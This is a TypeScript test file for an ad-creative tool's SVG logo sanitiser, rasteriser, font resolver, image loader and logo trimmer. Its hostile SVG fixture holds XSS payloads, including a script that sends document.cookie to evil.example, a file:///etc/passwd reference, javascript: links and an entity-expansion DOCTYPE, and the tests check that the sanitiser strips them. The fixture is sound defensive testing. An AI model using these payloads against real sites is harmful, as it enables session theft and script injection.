import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import type { User } from '@adsmith/domain/auth/schemas';
import type { GuardedFetch } from '../crawl/crawl.types';
import type { MediaDeps } from '../media/media.service';
import { createImageLoader } from './image-sources';
import { prepareLogo } from './render/render-creative';
import { looksLikeSvg, rasteriseSvgLogo, sanitiseSvg } from './svg-logo';
import { resolveLogoFont } from './svg-logo-text';

const HOSTILE = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 100" onload="alert(1)">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <style>@import url('https://evil.example/x.css'); .mark { fill: url(https://evil.example/p.svg#g); } .ink { fill: #c0392b }</style>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#c0392b"/></linearGradient></defs>
  <rect class="ink" x="10" y="10" width="180" height="80" fill="url(#g)" onclick="steal()"/>
  <image href="file:///etc/passwd" width="10" height="10"/>
  <image xlink:href="https://evil.example/tracker.png" width="10" height="10"/>
  <use xlink:href="https://evil.example/sprite.svg#logo"/>
  <use href="#g"/>
  <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
  <a href="javascript:alert(1)"><circle cx="50" cy="50" r="20"/></a>
  <feImage href="https://evil.example/f.png"/>
  <animate attributeName="href" to="javascript:alert(1)"/>
</svg>`;

describe('sanitiseSvg (SVG logos from a crawled site)', () => {
  it('leaves no script, handler, foreignObject or external reference in a hostile SVG, and keeps the drawing', () => {
    const clean = sanitiseSvg(HOSTILE)!;
    expect(clean).not.toMatch(/<script|onload|onclick|foreignObject|iframe|feImage|animate|javascript:/i);
    expect(clean).not.toMatch(/evil\.example|file:|@import|ENTITY|DOCTYPE/i);
    expect(clean).toContain('<rect');
    expect(clean).toContain('fill="url(#g)"');
    expect(clean).toContain('<use href="#g"/>');
    expect(clean).toContain('.ink { fill: #c0392b }');
  });

  it('refuses what is not one SVG document', () => {
    expect(sanitiseSvg('<html><body><svg></svg></body></html>')).toBeNull();
    expect(sanitiseSvg('not markup')).toBeNull();
    expect(looksLikeSvg(Buffer.from(HOSTILE))).toBe(true);
    expect(looksLikeSvg(Buffer.from('<html><svg></svg></html>'))).toBe(false);
  });

  it('draws the sanitised logo crisp: a PNG as wide as the logo box, in the logo’s colour', async () => {
    const png = (await rasteriseSvgLogo(Buffer.from(HOSTILE)))!;
    const meta = await sharp(png).metadata();
    expect(meta).toMatchObject({ format: 'png', width: 1600, height: 800 });
    const { data } = await sharp(png)
      .extract({ left: 800, top: 100, width: 1, height: 1 })
      .raw()
      .toBuffer({ resolveWithObject: true });
    expect([...data.subarray(0, 3)]).toEqual([0xc0, 0x39, 0x2b]);
  });

  /** Opaque pixels of a rasterised logo inside a box given in the SVG's own units (the PNG is 16 × the viewBox). */
  const inkIn = async (png: Buffer, box: { left: number; top: number; width: number; height: number }) => {
    const scale = (await sharp(png).metadata()).width! / 100;
    const { data } = await sharp(png)
      .extract({
        left: Math.round(box.left * scale),
        top: Math.round(box.top * scale),
        width: Math.round(box.width * scale),
        height: Math.round(box.height * scale),
      })
      .ensureAlpha()
      .extractChannel(3)
      .raw()
      .toBuffer({ resolveWithObject: true });
    return data.filter((alpha) => alpha > 128).length / data.length;
  };
  const frame = '<rect x="2" y="2" width="96" height="96" fill="none" stroke="#333" stroke-width="4"/>';
  const lettersBox = { left: 20, top: 35, width: 60, height: 30 };

  it('draws the letters of a logo set as <text> from the installed fonts, in the face its design tool named', async () => {
    // As a design tool exports it: a class naming the face ("Montserrat-Bold") with the family as fallback.
    const monogram = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><style>.initials{font-family:Montserrat-Bold, Montserrat;font-size:36px;fill:#333}</style>${frame}<text class="initials" x="50" y="62" text-anchor="middle">ŁS</text></svg>`;
    const png = (await rasteriseSvgLogo(Buffer.from(monogram)))!;
    expect(png).not.toBeNull();
    const empty = (await rasteriseSvgLogo(Buffer.from(monogram.replace(/<text[^>]*>ŁS<\/text>/, frame))))!;
    // The frame alone leaves the letters' box empty; drawn, the letters ink a good part of it.
    expect(await inkIn(empty, lettersBox)).toBe(0);
    expect(await inkIn(png, lettersBox)).toBeGreaterThan(0.15);
    // Bold, as the face's name says: the same letters at the regular weight ink less.
    const regular = (await rasteriseSvgLogo(
      Buffer.from(monogram.replace('Montserrat-Bold', 'Montserrat-Regular')),
    ))!;
    expect(await inkIn(png, lettersBox)).toBeGreaterThan((await inkIn(regular, lettersBox)) * 1.2);
  });

  it('draws text in a system font or no font with a close installed face, and refuses a face it cannot provide', async () => {
    const lettered = (family: string, letters = 'ST') =>
      Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">${frame}<text x="50" y="62" text-anchor="middle" font-size="36"${family ? ` font-family="${family}"` : ''}>${letters}</text></svg>`,
      );
    for (const family of ['ArialMT', "'Helvetica Neue', Arial, sans-serif", '']) {
      const png = await rasteriseSvgLogo(lettered(family));
      expect(png, family || 'no font-family').not.toBeNull();
      expect(await inkIn(png!, lettersBox)).toBeGreaterThan(0.1);
    }
    // A brand's own script face, a generic cursive, a letter the named family lacks (Lato has no Cyrillic): the
    // creative sets the business's name instead of letters in another face.
    expect(await rasteriseSvgLogo(lettered('BrandScript, cursive'))).toBeNull();
    expect(await rasteriseSvgLogo(lettered('monospace'))).toBeNull();
    expect(await rasteriseSvgLogo(lettered('Lato', 'ЯШ'))).toBeNull();
    expect(await rasteriseSvgLogo(lettered('Roboto', 'ЯШ'))).not.toBeNull();
  });

  it('reads the font a design tool names, with its weight and slant', () => {
    expect(resolveLogoFont('Montserrat-Bold, Montserrat')).toEqual({
      family: 'Montserrat',
      weight: 700,
      italic: false,
    });
    expect(resolveLogoFont('OpenSans-SemiBoldItalic')).toEqual({
      family: 'Open Sans',
      weight: 600,
      italic: true,
    });
    expect(resolveLogoFont('"Poppins Medium"')).toEqual({ family: 'Poppins', weight: 500, italic: false });
    expect(resolveLogoFont('Arial-BoldMT')).toEqual({ family: 'Roboto', weight: 700, italic: false });
    expect(resolveLogoFont("'Times New Roman', serif")).toEqual({
      family: 'Lora',
      weight: null,
      italic: false,
    });
    expect(resolveLogoFont('SourceSansPro-Black')).toEqual({
      family: 'Source Sans 3',
      weight: 900,
      italic: false,
    });
    expect(resolveLogoFont('Pacifico, cursive')).toBeNull();
    expect(resolveLogoFont('Montserrat-Wavy')).toBeNull();
  });
});

describe('createImageLoader on site images', () => {
  const user = { id: 'u1', email: 'a@b.example', isAdmin: false } as unknown as User;
  const serve =
    (files: Record<string, Buffer>): GuardedFetch =>
    async (url) => ({
      url,
      finalUrl: url,
      status: files[url] ? 200 : 404,
      contentType: 'application/octet-stream',
      body: files[url] ?? Buffer.alloc(0),
    });

  it('decodes an AVIF photo for the renderer, takes an SVG only as a logo, and sanitises it first', async () => {
    const avif = await sharp({ create: { width: 640, height: 480, channels: 3, background: '#7a5230' } })
      .avif({ quality: 50 })
      .toBuffer();
    const load = createImageLoader({
      media: {} as MediaDeps,
      user,
      fetch: serve({
        'https://a.example/shop.avif': avif,
        'https://a.example/logo.svg': Buffer.from(HOSTILE),
      }),
    });
    const photo = await load('https://a.example/shop.avif');
    expect(photo.problem).toBeNull();
    expect(await sharp(photo.bytes!).metadata()).toMatchObject({ format: 'jpeg', width: 640, height: 480 });
    expect((await load('https://a.example/logo.svg')).bytes).toBeNull();
    const logo = await load('https://a.example/logo.svg', { logo: true });
    expect(logo.problem).toBeNull();
    expect((await sharp(logo.bytes!).metadata()).format).toBe('png');
  });
});

describe('prepareLogo', () => {
  it('trims the empty margin a logo file pads its mark with, so the mark is drawn at full size', async () => {
    const mark = await sharp({ create: { width: 200, height: 50, channels: 4, background: '#c0392b' } })
      .png()
      .toBuffer();
    const padded = await sharp({
      create: { width: 400, height: 400, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } },
    })
      .composite([{ input: mark, left: 60, top: 170 }])
      .png()
      .toBuffer();
    const logo = await prepareLogo(padded, 75);
    expect({ width: logo.width, height: logo.height, aspect: logo.aspect }).toEqual({
      width: 200,
      height: 50,
      aspect: 4,
    });
    // A flat block with nothing drawn on it is a mark, not a ground.
    const block = await prepareLogo(mark, 75);
    expect([block.width, block.height]).toEqual([200, 50]);
  });

  it('sets a logo drawn on an opaque white ground on a plate of that white, with clear space and round corners', async () => {
    const ink = await sharp({ create: { width: 200, height: 50, channels: 3, background: '#1b1b1b' } })
      .png()
      .toBuffer();
    const onWhite = await sharp({ create: { width: 400, height: 200, channels: 3, background: '#ffffff' } })
      .composite([{ input: ink, left: 100, top: 75 }])
      .jpeg()
      .toBuffer();
    const logo = await prepareLogo(onWhite, 75);
    // The mark trimmed tight, then 22 % of its height of white on every side.
    expect(logo.height).toBeGreaterThanOrEqual(50 + 2 * 10);
    expect(logo.width - logo.height).toBeGreaterThanOrEqual(148);
    const pixel = (x: number, y: number) => [
      ...logo.pixels.subarray((y * logo.width + x) * 4, (y * logo.width + x) * 4 + 4),
    ];
    expect(pixel(0, 0)[3]).toBe(0);
    expect(pixel(Math.round(logo.width / 2), 4).every((value) => value >= 250)).toBe(true);
    expect(
      pixel(Math.round(logo.width / 2), Math.round(logo.height / 2))
        .slice(0, 3)
        .every((v) => v < 60),
    ).toBe(true);
  });
});
